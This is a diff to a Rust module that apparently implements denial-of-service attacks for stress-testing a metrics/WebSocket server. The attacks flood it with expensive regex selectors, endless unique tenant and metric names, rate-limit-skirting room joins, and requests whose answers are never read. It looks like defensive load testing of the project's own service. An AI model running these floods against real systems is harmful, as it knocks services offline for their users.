@@ -3,7 +3,7 @@
 use std::{
     io::{Read, Write},
     net::{SocketAddr, TcpStream},
-    sync::atomic::{AtomicBool, Ordering},
+    sync::atomic::{AtomicBool, AtomicU64, Ordering},
     thread,
     time::{Duration, Instant},
 };
@@ -16,6 +16,12 @@ use super::{ATTACKERS, Http, connect, head, say, token, web_socket};
 
 /// Of the attackers' receive buffers, where they do not read.
 const SMALL_BUFFER: usize = 4096;
+
+/// A number that was not used before.
+fn unique() -> u64 {
+    static NEXT: AtomicU64 = AtomicU64::new(0);
+    NEXT.fetch_add(1, Ordering::Relaxed)
+}
 
 /// An attack.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
@@ -122,7 +128,7 @@ impl Target {
             Attack::Starve => together(40, &|_| {
                 let path = self
                     .series
-                    .replace("series", "range?match={}&start=-15m&step=100");
+                    .replace("series", "range?match=%7B%7D&start=-15m&step=100");
                 self.ask_and_not_read(&path, &goes_on)
             }),
             Attack::Tenants => together(2, &|_| self.name_tenants(&goes_on)),
@@ -136,15 +142,11 @@ impl Target {
 
     fn watch_and_leave(&self, goes_on: &dyn Fn() -> bool) -> Result<()> {
         let mut socket = web_socket(self.to, ATTACKERS, "/ws", None, None)?;
-        for number in 0.. {
-            if !goes_on() {
-                break;
-            }
+        while goes_on() {
             let patterns: Vec<_> = (0..30)
                 .map(|label| format!("p{label}=~\"[^a]{{150}}\""))
                 .collect();
-            let unique = format!("a{number}_{:p}!=\"x\"", &socket);
-            let selector = format!("{{{unique},{}}}", patterns.join(","));
+            let selector = format!("{{a{}!=\"x\",{}}}", unique(), patterns.join(","));
             let watch = json!({ "action": "watch", "match": selector });
             say(&mut socket, watch.to_string())?;
             // Its answer, among what comes by itself.
@@ -172,13 +174,13 @@ impl Target {
 
     fn name_selectors(&self, goes_on: &dyn Fn() -> bool) -> Result<()> {
         let mut socket = web_socket(self.to, ATTACKERS, "/ws/metrics", None, None)?;
-        for round in 0..10 {
+        for _ in 0..10 {
             let names: Vec<_> = (0..100)
-                .map(|number| {
+                .map(|_| {
                     let patterns: Vec<_> = (0..20)
                         .map(|label| format!("p{label}=~\"[^a]{{{}}}\"", 150 - label))
                         .collect();
-                    format!("x{round}_{number}{{{}}}", patterns.join(","))
+                    format!("x{}{{{}}}", unique(), patterns.join(","))
                 })
                 .collect();
             let subscribe = json!({ "type": "subscribe", "metrics": names });
@@ -222,10 +224,8 @@ impl Target {
     fn name_tenants(&self, goes_on: &dyn Fn() -> bool) -> Result<()> {
         let mut http = Http::open(self.to, ATTACKERS)?;
         let more = "Content-Type: application/json\r\n";
-        let mut number = 0_u64;
         while goes_on() {
-            number += 1;
-            let path = format!("/v1/metrics?tenant=t{number}.{:p}", &http);
+            let path = format!("/v1/metrics?tenant=t{}", unique());
             http.ask(&head("POST", &path, None, more, 0), b"")?;
         }
         Ok(())
@@ -251,28 +251,23 @@ impl Target {
     fn join_rooms(&self, goes_on: &dyn Fn() -> bool) -> Result<()> {
         let mut chat = web_socket(self.to, ATTACKERS, "/ws/chat", None, None)?;
         let mut rooms = web_socket(self.to, ATTACKERS, "/ws", None, None)?;
-        let unique = format!("{:p}", &chat);
-        let mut number = 0;
         while goes_on() {
             // Below the rate at which a client is sent away.
-            for _ in 0..20 {
-                number += 1;
-                let room = format!("r{number}.{unique}");
-                say(
-                    &mut chat,
-                    json!({ "type": "join_room", "room": room }).to_string(),
-                )?;
-                let selector = format!("z{number}_{unique}");
-                for action in ["watch", "unwatch"] {
-                    let message = json!({ "action": action, "match": selector });
-                    say(&mut rooms, message.to_string())?;
+            for _ in 0..40 {
+                let number = unique();
+                let join = json!({ "type": "join_room", "room": format!("r{number}") });
+                say(&mut chat, join.to_string())?;
+                if number % 8 == 0 {
+                    let selector = format!("z{number}");
+                    for action in ["watch", "unwatch"] {
+                        let message = json!({ "action": action, "match": selector });
+                        say(&mut rooms, message.to_string())?;
+                    }
                 }
-                let join = json!({ "action": "subscribe", "channel": room });
-                say(&mut rooms, join.to_string())?;
             }
             drain(&mut chat)?;
             drain(&mut rooms)?;
-            thread::sleep(Duration::from_millis(500));
+            thread::sleep(Duration::from_millis(100));
         }
         Ok(())
     }
